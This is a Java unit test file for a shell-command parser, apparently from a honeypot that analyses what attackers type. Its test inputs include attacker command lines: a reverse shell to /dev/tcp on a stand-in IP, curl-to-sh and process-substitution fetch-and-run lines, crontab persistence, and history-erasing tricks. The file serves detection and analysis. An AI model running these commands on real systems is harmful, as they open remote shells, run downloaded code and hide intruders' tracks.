package org.decnet.engine.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the parser makes of lines that attackers type. */
class TolerantShellParserTest {
  private final ShellParser parser = new TolerantShellParser();

  @Test
  void operatorsOutsideQuotesSeparateStatements() {
    assertThat(texts("cd /tmp;id&&w||uname -a|wc\nls & ps"))
        .containsExactly("cd /tmp", "id", "w", "uname -a", "wc", "ls", "ps");
  }

  @Test
  void operatorsInsideQuotesOrBehindBackslashDoNot() {
    assertThat(words("echo 'a;b' \"c|d\" e\\;f"))
        .containsExactly(List.of("echo", "a;b", "c|d", "e;f"));
  }

  @Test
  void quotedPiecesJoinToOneWord() {
    assertThat(words("'w''get' http://h/\"x\".sh w\\get"))
        .containsExactly(List.of("wget", "http://h/x.sh", "wget"));
  }

  @Test
  void unterminatedQuoteReachesToTheEndAndIsPartial() {
    CommandLine line = parser.parse("id; echo 'a; b");

    assertThat(line.status()).isEqualTo(ParseStatus.PARTIAL);
    assertThat(line.statements()).extracting(Statement::text).containsExactly("id", "echo 'a; b");
  }

  @Test
  void offsetsCountBytesOfUtf8() {
    Statement second = parser.parse("echo é😀; id").statements().get(1);

    assertThat(second.start())
        .isEqualTo("echo é😀; ".getBytes(java.nio.charset.StandardCharsets.UTF_8).length);
    assertThat(second.end()).isEqualTo(second.start() + 2);
  }

  @ParameterizedTest
  @ValueSource(strings = {"# wget http://h/x; id", "   ", "", "  # note"})
  void commentsAndBlanksHoldNoStatement(String line) {
    assertThat(parser.parse(line).statements()).isEmpty();
    assertThat(parser.parse(line).status()).isEqualTo(ParseStatus.OK);
  }

  @Test
  void hashInsideAWordIsNoComment() {
    assertThat(words("echo a#b; id # c")).containsExactly(List.of("echo", "a#b"), List.of("id"));
  }

  @Test
  void firstLineOfAJoinedScriptDoesNotSwallowTheRest() {
    assertThat(texts("#!/bin/sh; wget http://h/x")).containsExactly("wget http://h/x");
  }

  @Test
  void redirectionsNameTheirFilesAndCopiesOfDescriptorsNone() {
    Statement statement = only("cmd <in >out 2>>err 2>&1 >&- &>both >|forced");

    assertThat(statement.words()).containsExactly("cmd");
    assertThat(statement.redirects())
        .containsExactly(
            new Redirect(Redirect.Kind.IN, 0, "in"),
            new Redirect(Redirect.Kind.OUT, 1, "out"),
            new Redirect(Redirect.Kind.APPEND, 2, "err"),
            new Redirect(Redirect.Kind.OUT, 1, "both"),
            new Redirect(Redirect.Kind.OUT, 1, "forced"));
  }

  @Test
  void numberApartFromTheSignIsAWord() {
    Statement statement = only("uname -m 2 > /dev/null");

    assertThat(statement.words()).containsExactly("uname", "-m", "2");
    assertThat(statement.redirects())
        .containsExactly(new Redirect(Redirect.Kind.OUT, 1, "/dev/null"));
  }

  @Test
  void reverseShellRedirectsToTheNetwork() {
    Statement statement = only("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");

    assertThat(statement.words()).containsExactly("bash", "-i");
    assertThat(statement.redirects())
        .extracting(Redirect::target)
        .containsExactly("/dev/tcp/198.51.100.7/4444");
    assertThat(statement.text()).isEqualTo("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
  }

  @Test
  void redirectionWithoutProgramIsAStatement() {
    Statement statement = only("> ~/.bash_history");

    assertThat(statement.program()).isNull();
    assertThat(statement.redirects())
        .containsExactly(new Redirect(Redirect.Kind.OUT, 1, "~/.bash_history"));
  }

  @Test
  void neighboursInAPipeKnowEachOther() {
    List<Statement> statements = parser.parse("cat x | busybox grep y | sh").statements();

    assertThat(statements.get(0).pipes().to()).isEqualTo("grep");
    assertThat(statements.get(2).text()).isEqualTo("grep y");
    assertThat(statements.get(2).pipes().from()).isEqualTo("cat");
    assertThat(statements.get(3).pipes().from()).isEqualTo("grep");
  }

  @Test
  void groupFeedsThePipeBehindIt() {
    List<Statement> statements = parser.parse("(crontab -l;echo x)|crontab -").statements();

    assertThat(statements)
        .extracting(Statement::text)
        .containsExactly("crontab -l", "echo x", "crontab -");
    assertThat(statements.get(0).pipes().to()).isEqualTo("crontab");
    assertThat(statements.get(2).pipes().from()).isEqualTo("echo");
    assertThat(statements).allMatch(statement -> statement.depth() == 0);
  }

  @Test
  void groupReadsThePipeBeforeIt() {
    List<Statement> statements =
        parser.parse("curl http://h/x | { cd /tmp; sh; }; id").statements();

    assertThat(statements)
        .extracting(s -> s.pipes().from())
        .containsExactly(null, "curl", "curl", null);
  }

  @Test
  void constantEchoIsKnownToItsReader() {
    Statement reader = parser.parse("echo -e 'a\\x62' c | tee f").statements().get(1);

    assertThat(reader.pipes().stdinText()).isEqualTo("ab c");
    assertThat(parser.parse("echo $x | tee f").statements().get(1).pipes().stdinText()).isNull();
    assertThat(parser.parse("echo x > g | tee f").statements().get(1).pipes().stdinText()).isNull();
  }

  @ParameterizedTest
  @CsvSource({
    "printf 'a%sc' b,abc",
    "printf '%s\\n' k,k",
    "printf 100%%,100%",
    "echo -n x,x",
    "echo -nx,-nx",
    "echo '\\x41',\\x41"
  })
  void constantOutputFollowsTheProgramsRules(String line, String output) {
    assertThat(only(line).pipes().outputText()).isEqualTo(output);
  }

  @Test
  void hereTextIsStandardInput() {
    assertThat(only("cat <<< 'id'").pipes().stdinText()).isEqualTo("id");
    assertThat(only("cat <<E\na\nb\nE").pipes().stdinText()).isEqualTo("a\nb\n");
    assertThat(only("cat <<E\na$x\nE").pipes().stdinText()).isNull();
    assertThat(only("cat <<'E'\na$x\nE").pipes().stdinText()).isEqualTo("a$x\n");
    assertThat(texts("cat <<E\nwget x\nE\nid")).containsExactly("cat <<E", "id");
  }

  @Test
  void substitutionsHoldStatementsOfTheirOwn() {
    List<Statement> statements =
        parser.parse("echo \"a $(uname -a 2>/dev/null)\" `id` ").statements();

    assertThat(statements)
        .extracting(Statement::text)
        .containsExactly("echo \"a $(uname -a 2>/dev/null)\" `id`", "uname -a 2>/dev/null", "id");
    assertThat(statements).extracting(Statement::depth).containsExactly(0, 1, 1);
    assertThat(statements.get(0).words())
        .containsExactly("echo", "a $(uname -a 2>/dev/null)", "`id`");
  }

  @Test
  void substitutionInSingleQuotesIsText() {
    assertThat(texts("echo '$(id) `w`'")).hasSize(1);
    assertThat(texts("echo \"\\$(id)\"")).hasSize(1);
  }

  @Test
  void substitutionInAnAssignmentIsFollowed() {
    List<Statement> statements =
        parser.parse("u=$(uname -s); cpus=$( (nproc || grep x) | head -1)").statements();

    assertThat(statements)
        .extracting(Statement::text)
        .containsExactly(
            "u=$(uname -s)",
            "uname -s",
            "cpus=$( (nproc || grep x) | head -1)",
            "nproc",
            "grep x",
            "head -1");
    assertThat(statements.getFirst().assignments()).containsExactly("u=$(uname -s)");
  }

  @Test
  void processSubstitutionIsFollowed() {
    assertThat(texts("bash <(curl -s http://h/x)")).contains("curl -s http://h/x");
    assertThat(texts("sh < <(curl -s http://h/x)")).contains("curl -s http://h/x");
  }

  @ParameterizedTest
  @CsvSource({
    "sudo -u root id -u,id -u,sudo",
    "/bin/busybox wget http://h/b,wget http://h/b,busybox",
    "nohup ./x.sh,./x.sh,nohup",
    "env A=1 id,id,env",
    "timeout -s KILL 5 id,id,timeout",
    "sudo -n -- id,id,sudo",
    "command id,id,command"
  })
  void carrierHoldsTheProgramThatItRuns(String line, String carried, String via) {
    List<Statement> statements = parser.parse(line).statements();

    assertThat(statements).extracting(Statement::text).containsExactly(line, carried);
    assertThat(statements.get(1).via()).containsExactly(via);
    assertThat(statements.get(1).carrier()).isZero();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"sudo -l whoami", "command -v wget", "busybox", "sudo -i", "env", "sudo -V"})
  void carrierThatRunsNothingStandsAlone(String line) {
    assertThat(texts(line)).containsExactly(line);
  }

  @Test
  void redirectionBelongsToTheProgramThatWrites() {
    List<Statement> statements = parser.parse("busybox echo x > f").statements();

    assertThat(statements.get(0).redirects()).isEmpty();
    assertThat(statements.get(1).redirects())
        .containsExactly(new Redirect(Redirect.Kind.OUT, 1, "f"));
    assertThat(statements.get(1).pipes().outputText()).isEqualTo("x");
  }

  @Test
  void payloadOfAShellIsParsedInPlace() {
    CommandLine line = parser.parse("su root -c 'cd /tmp; bash -lc \"id; w\"'");

    assertThat(line.statements())
        .extracting(Statement::text)
        .containsExactly(line.text(), "cd /tmp", "bash -lc \"id; w\"", "id", "w");
    assertThat(line.statements().get(4).via()).containsExactly("su -c", "bash -c");
    assertThat(line.statements().get(4).carrier()).isEqualTo(2);
  }

  @Test
  void substitutionInAPayloadCountsOnce() {
    assertThat(texts("sh -c \"echo $(id)\"")).containsOnlyOnce("id");
  }

  @Test
  void scriptArgumentOfAShellIsNoPayload() {
    assertThat(texts("bash x.sh -c id")).hasSize(1);
  }

  @Test
  void loopsAndConditionsGiveTheirCommands() {
    assertThat(
            texts("for i in $(ls /home); do cat $i; done; while read l; do wget $l; done < urls"))
        .containsExactly("ls /home", "cat $i", "read l", "wget $l", "< urls");
    assertThat(texts("if [ -f /x ]; then id; else w; fi")).containsExactly("[ -f /x ]", "id", "w");
    assertThat(texts("for ((i=0;i<5;i++)); do id; done")).containsExactly("id");
  }

  @Test
  void patternsOfCaseAreNoCommands() {
    assertThat(texts("case $(uname -m) in x86_64|id) wget a;; (w) curl b;; *) ftp c; esac; ls"))
        .containsExactly("uname -m", "wget a", "curl b", "ftp c", "ls");
  }

  @Test
  void functionsAndArraysAreNoCommands() {
    assertThat(texts("id() { w; }; a=(whoami last); function f { ls; }"))
        .containsExactly("w", "a=", "ls");
  }

  @Test
  void assignmentsStandBeforeTheProgram() {
    Statement statement = only("HISTFILE=/dev/null A+='b c' bash -l");

    assertThat(statement.assignments()).containsExactly("HISTFILE=/dev/null", "A+=b c");
    assertThat(statement.arg0()).isEqualTo("bash");
    assertThat(statement.args()).containsExactly("-l");
  }

  @Test
  void backgroundIsNoted() {
    assertThat(parser.parse("sh x & id").statements())
        .extracting(Statement::background)
        .containsExactly(true, false);
  }

  @Test
  void alternativeIsNoted() {
    assertThat(parser.parse("cd /tmp || sudo cd /var; id && w").statements())
        .extracting(Statement::afterFailure)
        .containsExactly(false, true, true, false, false);
  }

  @Test
  void lineWithoutAnyCommandIsOneOpaqueStatement() {
    CommandLine line = parser.parse("  ) ( ");

    assertThat(line.status()).isEqualTo(ParseStatus.OPAQUE);
    assertThat(line.statements()).singleElement().extracting(Statement::text).isEqualTo(") (");
  }

  @Test
  void statementsAndDepthAreCapped() {
    CommandLine many = parser.parse("id;".repeat(600));
    CommandLine deep = parser.parse("sudo ".repeat(20) + "id");
    CommandLine nested = parser.parse("$(".repeat(20) + "id" + ")".repeat(20));

    assertThat(many.statements()).hasSize(512);
    assertThat(many.status()).isEqualTo(ParseStatus.PARTIAL);
    assertThat(deep.statements()).hasSize(9);
    assertThat(deep.status()).isEqualTo(ParseStatus.PARTIAL);
    assertThat(nested.statements()).allMatch(statement -> statement.depth() <= 8);
  }

  private List<String> texts(String line) {
    return parser.parse(line).statements().stream().map(Statement::text).toList();
  }

  private List<List<String>> words(String line) {
    return parser.parse(line).statements().stream().map(Statement::words).toList();
  }

  private Statement only(String line) {
    List<Statement> statements = parser.parse(line).statements();
    assertThat(statements).hasSize(1);
    return statements.getFirst();
  }
}
